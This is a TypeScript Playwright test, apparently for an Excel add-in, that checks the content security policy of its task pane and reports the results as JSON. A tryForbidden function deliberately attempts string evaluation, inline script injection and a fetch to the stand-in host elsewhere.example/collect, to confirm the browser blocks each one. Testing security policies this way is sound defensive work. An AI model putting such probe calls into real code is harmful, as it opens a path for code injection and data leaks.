/** Works through the add-in as it is served to Excel, under its content security policy; prints JSON. */
import { readFile } from "node:fs/promises";
import { join } from "node:path";
import { build } from "esbuild";
import type { BrowserContext, Page } from "playwright-core";
import { BEHIND_MORE, TABS } from "../../src/taskpane/navigation/routes";
import { addinBuild } from "../../src/workbench/server/addinBuild";
import { DIST, OFFICE_JS, ROOT } from "../../src/workbench/server/paths";
import { resolveFile } from "../../src/workbench/server/resolveFile";
import { launchBrowser } from "./browser";
import type { OfficePage, WindowInOffice } from "./inOffice";
import { serveSite } from "./servedSite";
import { isQuiet, openScreen, regrade } from "./visit";
import { until } from "./session";

const CDN = "https://appsforoffice.microsoft.com/lib/1/hosted/";
const SUB_PATH = "/tools/grade/";

export interface PolicySeen {
  /** What the browser blocked while the add-in was used. */
  readonly blocked: readonly string[];
  readonly complaints: readonly string[];
  /** Origins that were asked for anything. */
  readonly origins: readonly string[];
  readonly notFound: readonly string[];
  readonly screens: readonly string[];
  readonly customers: number;
  /** What became of things the policy must not allow. */
  readonly attempts: { readonly evaluated: string; readonly inline: string; readonly sent: string };
  /** Blocked in the course of those. */
  readonly blockedThen: readonly string[];
}

async function officePage(): Promise<OfficePage> {
  const workbook = await readFile(join(ROOT, "src/workbench/samples/pharma-60.xlsx"), "base64");
  const metadata = JSON.parse(await readFile(join(DIST, "functions.json"), "utf8")) as OfficePage;
  return { workbook, functions: metadata.functions };
}

/** Microsoft's server, without the network: the npm package holds the same files. */
async function bringOffice(context: BrowserContext): Promise<void> {
  const { outputFiles } = await build({
    absWorkingDir: ROOT,
    entryPoints: ["test/e2e/inOffice.ts"],
    bundle: true,
    format: "iife",
    target: "es2022",
    write: false,
    logLevel: "error",
  });
  const script = `window.officePage = ${JSON.stringify(await officePage())};\n${outputFiles[0].text}`;
  await context.addInitScript({ content: script });
  await context.route(`${CDN}**`, async (route) => {
    const path = new URL(route.request().url()).href.slice(CDN.length).replace(/\?.*/, "");
    const file = await resolveFile(OFFICE_JS, path);
    if (file === undefined) return route.fulfill({ status: 404 });
    return route.fulfill({ path: file, contentType: "text/javascript; charset=utf-8" });
  });
}

async function work(page: Page, url: string): Promise<PolicySeen> {
  const complaints: string[] = [];
  const origins = new Set<string>();
  const notFound: string[] = [];
  page.on("request", (request) => origins.add(originOf(request.url())));
  page.on("response", (response) => {
    if (response.status() >= 400) notFound.push(response.url());
  });
  page.on("console", (message) => message.type() === "error" && complaints.push(message.text()));
  page.on("pageerror", (error) => complaints.push(String(error)));
  await page.goto(`${url}taskpane.html`);
  const pane = page.mainFrame();
  await regrade(pane);
  const screens: string[] = [];
  const each = async (at: number): Promise<void> => {
    const screen = [...TABS, ...BEHIND_MORE][at];
    if (screen === undefined) return;
    await openScreen(pane, screen);
    screens.push(screen);
    return each(at + 1);
  };
  await each(0);
  await isQuiet(pane);
  const customers = await page.evaluate(countTiers);
  const blocked = await page.evaluate(readBlocked);
  const seen = { blocked, complaints: [...complaints], origins: [...origins], notFound };
  const attempts = await page.evaluate(tryForbidden);
  await until("the browser tells", async () => (await page.evaluate(readBlocked)).length >= 3);
  const blockedThen = (await page.evaluate(readBlocked)).slice(blocked.length);
  return { ...seen, screens, customers, attempts, blockedThen };
}

const originOf = (url: string) => /^(data|blob):/.exec(url)?.[0] ?? new URL(url).origin;

const readBlocked = () => [...(window as unknown as WindowInOffice).blocked];

/** A function in a cell, loaded when it is called first. */
async function countTiers(): Promise<number> {
  const { officeHost: host } = window as unknown as WindowInOffice;
  const list = [
    ["客户名称", "消费额"],
    ["甲", 9000],
    ["乙", 7000],
  ];
  const tiers = await host.callFunction("GRADE.TIER", [list, [["abc-top5"]]]);
  return (tiers as readonly unknown[]).length;
}

/**
 * Shows that the policy is in force: the page itself is not allowed any of this. Functions inside of
 * it may have no names, which the compiler would keep by a call that the page does not know.
 */
async function tryForbidden(): Promise<PolicySeen["attempts"]> {
  // Only behind a timer: what the debugger runs itself may evaluate texts.
  const evaluated = await new Promise<string>((told) =>
    setTimeout(() => {
      try {
        new Function("return 1")();
        told("allowed");
      } catch (error) {
        told((error as Error).name);
      }
    })
  );
  const script = document.createElement("script");
  script.textContent = "document.title = 'inline ran'";
  document.head.append(script);
  const inline = document.title === "inline ran" ? "allowed" : "blocked";
  const sent = await fetch("https://elsewhere.example/collect").then(
    () => "allowed",
    (error: unknown) => (error as Error).name
  );
  return { evaluated, inline, sent };
}

async function main(browserPath: string): Promise<void> {
  await addinBuild((line) => void process.stderr.write(`${line}\n`));
  const site = await serveSite(SUB_PATH);
  const browser = await launchBrowser(browserPath);
  try {
    const context = await browser.newContext({ viewport: { width: 320, height: 860 } });
    await bringOffice(context);
    const seen = await work(await context.newPage(), site.url);
    process.stdout.write(`${JSON.stringify(seen)}\n`);
  } finally {
    await browser.close();
    await site.close();
  }
}

main(process.argv[2]!).catch((error: unknown) => {
  process.stderr.write(`${error instanceof Error ? error.stack : String(error)}\n`);
  process.exit(1);
});
